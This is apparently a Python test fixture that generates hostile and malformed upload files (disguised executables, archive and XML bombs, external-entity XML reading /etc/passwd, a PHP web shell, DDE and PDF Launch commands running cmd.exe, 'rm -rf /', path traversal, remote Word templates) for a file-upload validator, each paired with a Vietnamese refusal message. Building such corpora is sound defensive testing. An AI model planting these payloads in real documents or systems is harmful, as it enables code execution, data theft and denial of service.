"""Files made to do harm, or that no paper is: each with its name, its bytes and the words of its refusal."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.files.papers import (
    assembled,
    excel,
    packed,
    pdf,
    picture,
    scan,
    sheet_of_paper,
    with_member,
    with_text,
    word,
)

PROGRAM = "chương trình chạy được"
OTHER_NAME = "Kiểm tra lại đuôi tệp"
ARCHIVE = "Giải nén rồi gửi từng tệp"
MACROS = "có macro"
COMMANDS = "lệnh tự chạy"
CARRIES = "mang tệp khác bên trong"
HIDDEN = "giấu một tệp khác"
ENTITIES = "thực thể XML"
AWAY = "tự lấy nội dung từ nơi khác"
LOCKED = "có mật khẩu"
TOO_MUCH = "quá nhiều dữ liệu"
DAMAGED = "bị hỏng"
UNKNOWN = "chỉ nhận PDF"
MARKUP = "trang web hoặc mã"
POINTS = "ảnh quá lớn"

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """A file and why it is refused."""

    what: str
    name: str
    content: bytes
    why: str


def corpus() -> list[Hostile]:
    """All of them."""
    return [
        Hostile(what, name, content, why)
        for family in (programs, archives, names, texts, old_office, word_files, excel_files, pdf_files, pictures)
        for what, name, content, why in family()
    ]


Made = Iterator[tuple[str, str, bytes, str]]


def programs() -> Made:
    binary = b"\0\x01" * 60
    yield "a Windows program named a paper", "quyet-dinh.pdf", b"MZ\x90\0" + binary, PROGRAM
    yield "a Windows program under its name", "quyet-dinh.exe", b"MZ\x90\0" + binary, PROGRAM
    yield "a Linux program", "quyet-dinh.docx", b"\x7fELF\x02\x01" + binary, PROGRAM
    yield "a macOS program", "anh.png", b"\xcf\xfa\xed\xfe" + binary, PROGRAM
    yield "a Java class", "bang.xlsx", b"\xca\xfe\xba\xbe" + binary, PROGRAM
    yield "a shell script named a text", "ghi-chu.txt", b"#!/bin/sh\nrm -rf /\n", PROGRAM
    yield "a Windows shortcut", "quyet-dinh.pdf.lnk", b"L\0\0\0\x01\x14\x02\0" + binary, PROGRAM
    yield "a program with two extensions", "quyet-dinh.pdf.exe", b"MZ" + binary, PROGRAM
    yield "a program with reversed letters", "quyet-dinh-\u202efdp.exe", b"MZ" + binary, PROGRAM


def archives() -> Made:
    yield "a zip", "ho-so.zip", packed({"a.txt": "a"}), ARCHIVE
    yield "a zip named Word", "ho-so.docx", packed({"a.txt": "a"}), ARCHIVE
    yield "an empty zip", "ho-so.docx", packed({}), ARCHIVE
    yield "a rar", "ho-so.pdf", b"Rar!\x1a\x07\x01\0" + b"\0" * 40, ARCHIVE
    yield "a 7z", "ho-so.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 40, ARCHIVE
    yield "a gzip bomb", "ho-so.txt", b"\x1f\x8b" + zlib.compress(b"0" * 9_999_999), ARCHIVE
    yield "an xz", "ho-so.docx", b"\xfd7zXZ\0" + b"\0" * 40, ARCHIVE
    yield "a Java archive", "quyet-dinh.jar", packed({"META-INF/MANIFEST.MF": "Main-Class: A"}), ARCHIVE


def names() -> Made:
    yield "nothing", "a.pdf", b"", "tệp rỗng"
    yield "a PDF named Word", "a.docx", pdf(), OTHER_NAME
    yield "a PDF named a text", "a.txt", pdf(), OTHER_NAME
    yield "a PDF named a picture", "a.png", pdf(), OTHER_NAME
    yield "a PDF named a web page", "a.html", pdf(), OTHER_NAME
    yield "a Word file named PDF", "a.pdf", word(), OTHER_NAME
    yield "a Word file named Excel", "a.xlsx", word(), OTHER_NAME
    yield "an Excel file named Word", "a.docx", excel(), OTHER_NAME
    yield "a picture named PDF", "a.pdf", picture("PNG"), OTHER_NAME
    yield "a picture named a script", "a.js", picture("PNG"), OTHER_NAME
    yield "letters named PDF", "a.pdf", b"khong phai pdf", OTHER_NAME
    yield "letters named Word", "a.docx", b"chi la chu", OTHER_NAME
    yield "letters without a name that says so", "passwd", b"root:x:0:0", UNKNOWN
    yield "a way up the folders", "../../etc/passwd", b"root:x:0:0", UNKNOWN
    yield "numbers named a text", "a.txt", b"ab\0\0\0c\0", OTHER_NAME


def texts() -> Made:
    yield "a web page", "a.txt", b"<!DOCTYPE html><script>alert(1)</script>", MARKUP
    yield "a web page after spaces", "a.txt", b"\n\n  <html onload=alert(1)>", MARKUP
    yield "a web page in wide letters", "a.txt", "<script>alert(1)</script>".encode("utf-16"), MARKUP
    yield "a drawing with a script", "a.txt", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", MARKUP
    yield "a drawing under its name", "a.svg", b"<svg onload='alert(1)'/>", UNKNOWN
    yield (
        "XML with entities",
        "a.txt",
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
        MARKUP,
    )
    yield "PHP", "a.txt", b"<?php system($_GET['a']); ?>", MARKUP
    yield "a letter with attachments", "a.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\n<b>", MARKUP
    yield "no known encoding", "a.txt", bytes(range(128, 256)) * 3, "không rõ bảng mã"
    yield "a PDF further down", "a.txt", b"ghi chu\n" + pdf(), HIDDEN
    yield "a zip at the end", "a.txt", b"ghi chu\n" + packed({"a.exe": b"MZ"}), HIDDEN


def old_office() -> Made:
    yield "an old Word file", "a.doc", OLE + "WordDocument".encode("utf-16-le"), "kiểu cũ"
    yield "an old Excel file", "a.xls", OLE + "Workbook".encode("utf-16-le"), "kiểu cũ"
    yield "an old Word file named new", "a.docx", OLE + "WordDocument".encode("utf-16-le"), "kiểu cũ"
    yield "a locked Word file", "a.docx", OLE + "EncryptedPackage".encode("utf-16-le"), LOCKED
    yield "a locked Excel file", "a.xlsx", OLE + "EncryptedPackage".encode("utf-16-le"), LOCKED
    yield "a rich text", "a.rtf", b"{\\rtf1{\\object\\objdata 0105}}", "tệp RTF"
    yield "a rich text named Word", "a.docx", b"{\\rtf1 a}", "tệp RTF"
    yield "a presentation", "a.pptx", packed({"ppt/presentation.xml": "<a/>"}), "trình chiếu"


def relations(kind: str, target: str) -> str:
    """A part of relationships with one that points outside."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def word_files() -> Made:
    plain = word()
    settings = "word/_rels/settings.xml.rels"
    yield "macros", "a.docx", with_member(plain, {"word/vbaProject.bin": b"x"}), MACROS
    yield "macros in capitals", "a.docx", with_member(plain, {"word/VBAPROJECT.BIN": b"x"}), MACROS
    yield "macros under another name", "a.docx", with_member(plain, {"word/vbaData.xml": "<a/>"}), MACROS
    yield "a macro file by name", "a.docm", plain, MACROS
    yield (
        "a macro file by its types",
        "a.docx",
        with_text(plain, "[Content_Types].xml", "wordprocessingml.document.main", "wordprocessingml.macroEnabled.main"),
        MACROS,
    )
    yield "ActiveX", "a.docx", with_member(plain, {"word/activeX/activeX1.bin": b"x"}), MACROS
    for target in (
        "http://example.org/a.dotm",
        "https://example.org/a",
        "\\\\\\\\host\\share\\a.dotm",
        "//host/a.dotm",
        "file://host/share/a.dotm",
        "file:////host/share/a.dotm",
        "ftp://host/a",
        "mhtml:http://host/a!x",
    ):
        yield (
            f"a template from {target}",
            "a.docx",
            with_member(plain, {settings: relations("attachedTemplate", target)}),
            AWAY,
        )
    yield (
        "a picture from elsewhere",
        "a.docx",
        with_member(plain, {"word/_rels/footer9.xml.rels": relations("image", "http://example.org/a.png")}),
        AWAY,
    )
    yield (
        "an object from elsewhere",
        "a.docx",
        with_member(plain, {"word/_rels/footer9.xml.rels": relations("oleObject", "http://example.org/a.html!")}),
        AWAY,
    )
    yield (
        "a frame from elsewhere",
        "a.docx",
        with_member(plain, {"word/_rels/webSettings.xml.rels": relations("frame", "http://example.org/a.html")}),
        AWAY,
    )
    yield "broken relationships", "a.docx", with_member(plain, {settings: "<Relationships"}), AWAY
    for encoding in ("utf-8", "utf-16"):
        declared = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
        yield (
            f"an external entity in {encoding}",
            "a.docx",
            with_member(plain, {"word/extra.xml": declared.encode(encoding)}),
            ENTITIES,
        )
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">{lol}]><a>&l9;</a>'
    yield "a billion laughs", "a.docx", with_member(plain, {"word/document.xml": laughs}), ENTITIES
    yield "a billion laughs in the relationships", "a.docx", with_member(plain, {settings: laughs}), ENTITIES
    hidden = '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE a+AD4-'
    yield "a declaration in a strange encoding", "a.docx", with_member(plain, {"word/extra.xml": hidden}), ENTITIES
    yield "a bomb", "a.docx", with_member(plain, {"word/media/a.bin": b"\0" * 210_000_000}), TOO_MUCH
    yield "a bomb of XML", "a.docx", with_member(plain, {"word/document.xml": b"<a>" + b" " * 70_000_000}), TOO_MUCH
    yield "a bomb of many parts", "a.docx", with_member(plain, {f"word/a{n}.bin": b"" for n in range(5_100)}), TOO_MUCH
    inner = with_member(excel(), {"xl/media/a.bin": b"\0" * 210_000_000})
    yield "a bomb in a table inside", "a.docx", with_member(plain, {"word/embeddings/a.xlsx": inner}), TOO_MUCH
    nested = with_member(excel(), {"xl/embeddings/a.docx": plain})
    yield (
        "a package in a package in a package",
        "a.docx",
        with_member(plain, {"word/embeddings/a.xlsx": nested}),
        TOO_MUCH,
    )
    yield (
        "a bomb that lies about its size",
        "a.docx",
        lying(with_member(plain, {"word/document.xml": b"<a>" + b" " * 70_000_000})),
        DAMAGED,
    )
    yield "a zip inside", "a.docx", with_member(plain, {"word/embeddings/a.zip": packed({"a": "a"})}), CARRIES
    yield "a program inside", "a.docx", with_member(plain, {"word/media/image1.png": b"MZ" + b"\0" * 99}), CARRIES
    yield "a macro file inside", "a.docx", with_member(plain, {"word/embeddings/a.docm": plain}), CARRIES
    yield (
        "macros in a table inside",
        "a.docx",
        with_member(plain, {"word/embeddings/a.xlsx": with_member(excel(), {"xl/vbaProject.bin": b"x"})}),
        MACROS,
    )
    yield (
        "a packed file",
        "a.docx",
        with_member(plain, {"word/embeddings/oleObject1.bin": OLE + "\x01Ole10Native".encode("utf-16-le")}),
        CARRIES,
    )
    yield (
        "a command field",
        "a.docx",
        fielded(plain, '<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>'),
        COMMANDS,
    )
    yield (
        "a command field in pieces",
        "a.docx",
        fielded(plain, "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r>"),
        COMMANDS,
    )
    yield "a command field of the simple kind", "a.docx", fielded(plain, '<w:fldSimple w:instr="DDE cmd a"/>'), COMMANDS
    yield "a path out of the package", "a.docx", with_member(plain, {"../../a.xml": "<a/>"}), HIDDEN
    yield "an absolute path", "a.docx", with_member(plain, {"/etc/a.xml": "<a/>"}), HIDDEN
    yield "the same part twice", "a.docx", with_member(plain, {"WORD/document.xml": "<a/>"}), HIDDEN
    yield "a locked part", "a.docx", locked(plain), LOCKED
    yield "half a file", "a.docx", plain[: len(plain) // 2], DAMAGED
    yield "rubbish after the beginning", "a.docx", b"PK\x03\x04" + b"\0" * 100, DAMAGED
    yield "no types", "a.docx", packed({"word/document.xml": "<a/>"}), DAMAGED
    yield "a changed byte", "a.docx", spoilt(plain), DAMAGED
    yield "no XML inside", "a.docx", with_member(plain, {"word/document.xml": "khong phai XML"}), DAMAGED
    yield "a tree too deep", "a.docx", with_member(plain, {"word/document.xml": "<a>" * 200_000}), DAMAGED


def fielded(content: bytes, field: str) -> bytes:
    """A Word file with a field in its first paragraph."""
    return with_text(content, "word/document.xml", "<w:p><w:r>", f"<w:p>{field}<w:r>")


def locked(content: bytes) -> bytes:
    """A package whose parts say that they are encrypted."""
    made = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        while at >= 0:
            made[at + place] |= 1
            at = made.find(mark, at + 4)
    return bytes(made)


def lying(content: bytes) -> bytes:
    """A package whose largest part says that it is small."""
    made = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        largest = max(package.infolist(), key=lambda member: member.file_size)
    size = struct.pack("<I", largest.file_size)
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = made.find(mark)
        while at >= 0:
            if made[at + place : at + place + 4] == size:
                made[at + place : at + place + 4] = struct.pack("<I", 100)
            at = made.find(mark, at + 4)
    return bytes(made)


def spoilt(content: bytes) -> bytes:
    """A package in which one byte of the text was changed after it was packed."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        at = package.getinfo("word/document.xml").header_offset + 300
    return content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]


def excel_files() -> Made:
    plain = excel()
    yield "macros in Excel", "a.xlsx", with_member(plain, {"xl/vbaProject.bin": b"x"}), MACROS
    yield "a macro sheet of 1992", "a.xlsx", with_member(plain, {"xl/macrosheets/sheet1.xml": "<a/>"}), MACROS
    yield "a dialogue sheet", "a.xlsx", with_member(plain, {"xl/dialogsheets/sheet1.xml": "<a/>"}), MACROS
    yield "a macro workbook by name", "a.xlsm", plain, MACROS
    yield "a binary workbook", "a.xlsb", packed({"xl/workbook.bin": b"x"}), MACROS
    yield "a binary workbook renamed", "a.xlsx", packed({"xl/workbook.bin": b"x"}), MACROS
    yield (
        "a macro workbook by its types",
        "a.xlsx",
        with_text(plain, "[Content_Types].xml", XLSX_TYPE, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        MACROS,
    )
    link = '<externalLink xmlns="a"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield "a command link", "a.xlsx", with_member(plain, {"xl/externalLinks/externalLink1.xml": link}), COMMANDS
    yield (
        "a workbook from elsewhere",
        "a.xlsx",
        with_member(
            plain,
            {"xl/externalLinks/_rels/externalLink1.xml.rels": relations("externalLinkPath", "https://host/a.xlsx")},
        ),
        AWAY,
    )
    yield (
        "an entity in Excel",
        "a.xlsx",
        with_member(plain, {"xl/extra.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "http://host/">]><a>&b;</a>'}),
        ENTITIES,
    )
    yield (
        "a bomb in Excel",
        "a.xlsx",
        with_member(plain, {"xl/sharedStrings.xml": b"<a>" + b" " * 70_000_000}),
        TOO_MUCH,
    )
    yield "half an Excel file", "a.xlsx", plain[: len(plain) // 2], DAMAGED


def pdf_files() -> Made:
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    yield "a script on opening", "a.pdf", pdf(catalog=b"/OpenAction 10 0 R", extra=[script]), COMMANDS
    yield (
        "a script by name",
        "a.pdf",
        pdf(catalog=b"/Names<</JavaScript<</Names[(a) 10 0 R]>>>>", extra=[script]),
        COMMANDS,
    )
    yield (
        "a script in hidden letters",
        "a.pdf",
        pdf(catalog=b"/OpenAction 10 0 R", extra=[b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"]),
        COMMANDS,
    )
    yield "a script in packed objects", "a.pdf", pdf(extra=[packed_objects(script)]), COMMANDS
    yield "a script on a page", "a.pdf", pdf(page=b"/AA<</O 10 0 R>>", extra=[script]), COMMANDS
    yield (
        "a command on opening",
        "a.pdf",
        pdf(catalog=b"/OpenAction 10 0 R", extra=[b"<</S/Launch/F(cmd.exe)>>"]),
        COMMANDS,
    )
    yield "a form that sends itself", "a.pdf", pdf(extra=[b"<</S/SubmitForm/F(http://host/)>>"]), COMMANDS
    yield "a film", "a.pdf", pdf(extra=[b"<</Subtype/RichMedia>>"]), COMMANDS
    yield (
        "a form with scripts of its own",
        "a.pdf",
        pdf(
            catalog=b"/AcroForm<</XFA 10 0 R/Fields[]>>/NeedsRendering true",
            extra=[b"<</Length 4>>stream\n<a/>\nendstream"],
        ),
        COMMANDS,
    )
    embedded = [b"<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>", b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"]
    yield (
        "a file inside",
        "a.pdf",
        pdf(catalog=b"/Names<</EmbeddedFiles<</Names[(a) 10 0 R]>>>>", extra=embedded),
        CARRIES,
    )
    yield (
        "a file on a page",
        "a.pdf",
        pdf(page=b"/Annots[12 0 R]", extra=[*embedded, b"<</Type/Annot/Subtype/FileAttachment/FS 10 0 R>>"]),
        CARRIES,
    )
    yield "a locked PDF", "a.pdf", locked_pdf(), LOCKED
    yield "a beginning without an end", "a.pdf", b"%PDF-1.7\n%%EOF", DAMAGED
    yield "half a PDF", "a.pdf", scan()[:2_000], DAMAGED
    yield (
        "no page",
        "a.pdf",
        assembled({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"}),
        DAMAGED,
    )
    yield (
        "pages that are each other's",
        "a.pdf",
        assembled({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R]/Count 9>>"}),
        "",
    )
    yield "too many pages", "a.pdf", pdf(*([""] * 2_001)), "trên 2.000"
    yield "a zip at the end of a PDF", "a.pdf", pdf() + packed({"a.exe": b"MZ"}), HIDDEN
    yield "a PDF after letters", "a.pdf", b"GIF89a;\n" + pdf(), "loại không nhận"


def packed_objects(body: bytes) -> bytes:
    """An object stream that holds one object."""
    plain = b"20 0 " + body
    stream = zlib.compress(plain)
    return b"<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(stream), stream)


def locked_pdf() -> bytes:
    """A PDF that asks for a password (RC4, 40 bits; nobody knows the password)."""
    lock = b"/Encrypt<</Filter/Standard/V 1/R 2/O(%s)/U(%s)/P -44>>/ID[(a)(a)]" % (b"o" * 32, b"u" * 32)
    return assembled(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        },
        trailer=lock,
    )


def png(width: int, height: int, *, data: bytes = b"") -> bytes:
    """A PNG that says it has this size."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def pictures() -> Made:
    small = sheet_of_paper().resize((248, 160))
    whole = picture("PNG", small)
    yield "a picture of a trillion points", "a.png", png(1_000_000, 1_000_000), POINTS
    yield "a picture with one long side", "a.png", png(50_000, 10, data=zlib.compress(b"\0" * 500_010)), POINTS
    yield (
        "a picture that unpacks to a sea",
        "a.png",
        png(20_000, 9_000, data=zlib.compress(b"\0" * 18_000_900)),
        POINTS,
    )
    yield "half a PNG", "a.png", whole[: len(whole) // 2], DAMAGED
    yield "half a JPEG", "a.jpg", picture("JPEG", small)[:600], DAMAGED
    yield "half a TIFF", "a.tif", picture("TIFF", small)[:600], DAMAGED
    yield "the beginning of a JPEG", "a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 60, DAMAGED
    yield "the beginning of a TIFF", "a.tif", b"II*\0" + b"\xff" * 60, DAMAGED
    yield "a TIFF that runs in a circle", "a.tif", circular_tiff(), ""
    yield "a zip at the end of a picture", "a.png", whole + packed({"a.exe": b"MZ"}), HIDDEN
    yield "a web page in a picture", "a.jpg", b"\xff\xd8\xff\xfe\0\x20<script>alert(1)</script>" + b"\0" * 40, HIDDEN
    yield "a PDF in a picture", "a.jpg", b"\xff\xd8\xff\xfe\0\x20%PDF-1.7" + b"\0" * 40, HIDDEN
    yield "a GIF", "a.gif", b"GIF89a" + b"\0" * 40, "loại không nhận"
    yield "a GIF named PNG", "a.png", b"GIF89a" + b"\0" * 40, "loại không nhận"
    yield "a BMP", "a.bmp", b"BM\0\0" + b"\0" * 40, "loại không nhận"
    yield "a WebP", "a.webp", b"RIFF\0\0\0\0WEBP" + b"\0" * 40, "loại không nhận"
    yield "a HEIC of a telephone", "a.heic", b"\0\0\0\x18ftypheic" + b"\0" * 40, "loại không nhận"


def circular_tiff() -> bytes:
    """A TIFF whose second page is its first."""
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 0) + struct.pack("<I", 8)
